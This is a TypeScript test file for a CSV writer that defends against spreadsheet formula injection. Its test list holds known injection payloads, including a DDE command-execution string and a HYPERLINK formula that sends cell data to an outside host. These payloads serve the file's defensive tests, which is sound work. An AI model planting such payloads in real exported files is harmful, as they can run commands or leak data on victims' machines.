import { assert, describe, it } from "@effect/vitest"
import { Effect, Schema } from "effect"
import { csv, plainOf, readCsv, sheetCsv } from "../../report/Sheet.ts"

it.effect("a sheet is CSV that quotes what would be split, and leaves empty what is unknown", () =>
  Effect.gen(function* () {
    const text = yield* sheetCsv({
      columns: ["name", "said", "points"],
      rows: [
        ["a", 'b "c", d', 1.5],
        ["e\nf", true, null]
      ]
    })
    assert.strictEqual(text, 'name,said,points\r\na,"b ""c"", d",1.5\r\n"e\nf",true,\r\n')
  })
)

/** What spreadsheets are known to run, or to jump by. */
const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "=cmd|' /C calc'!A0",
  "|cmd",
  "%0A=1",
  "\t=1",
  "\r=1",
  "\n=1",
  "\ttext",
  "  =1",
  "\u00a0=1",
  "\u0000=1",
  "\u200b=1",
  "\ufeff=1",
  "\u202e=1",
  "＝1",
  "＋1",
  "－1",
  "＠x",
  "-1,5+cmd",
  "-1e5+2",
  "- 5",
  "--5",
  "-",
  "=",
  '=HYPERLINK("http://host/?"&A1)'
]

describe("text from outside in a CSV", () => {
  it.effect.each(formulas)("is no formula: %j", (text) =>
    Effect.gen(function* () {
      const written = yield* csv([["head"], [text]])
      const [row] = yield* readCsv(written, ",")
      assert.match(written, /^head\r\n"?'/)
      assert.deepStrictEqual(row, { head: text })
    })
  )

  it.effect("leaves numbers and harmless texts unchanged", () =>
    Effect.gen(function* () {
      const row = [-1.5, -1e-7, 0, -1e30, true, "-12", "-0.5", "-2e-7", "a=b", "'tis", "", "x-1"]
      assert.strictEqual(
        yield* csv([row]),
        "-1.5,-1e-7,0,-1e+30,true,-12,-0.5,-2e-7,a=b,'tis,,x-1\r\n"
      )
    })
  )

  it.effect("loses an apostrophe on reading only if one was added on writing", () =>
    Effect.sync(() => {
      for (const [cell, text] of [
        ["'=1", "=1"],
        ["''=1", "'=1"],
        ["'tis", "'tis"],
        ["'", "'"],
        ["'-5", "'-5"],
        ["=1", "=1"]
      ] as const) {
        assert.strictEqual(plainOf(cell), text)
      }
    })
  )

  const Signs = Schema.Array(
    Schema.Union([
      Schema.Literals([
        "'",
        "=",
        "+",
        "-",
        "@",
        "|",
        "%",
        "\t",
        "\r",
        "\n",
        " ",
        '"',
        ",",
        ";",
        "1"
      ]),
      Schema.String
    ])
  )

  it.effect.prop(
    "is read back unchanged, and never begins like a formula",
    [Signs, Signs],
    ([left, right]) =>
      Effect.gen(function* () {
        const [a, b] = [left.join(""), right.join("")]
        const written = yield* csv([
          ["a", "b"],
          [a, b]
        ])
        assert.deepStrictEqual(yield* readCsv(written, ","), [{ a, b }])
        const cell = written.slice("a,b\r\n".length).replace(/^"/, "")
        assert.notMatch(cell, /^\s*[=+@|%]|^[\t\r\n]|^-(?!\d+(\.\d+)?(e[+-]?\d+)?"?,)/i)
      })
  )
})
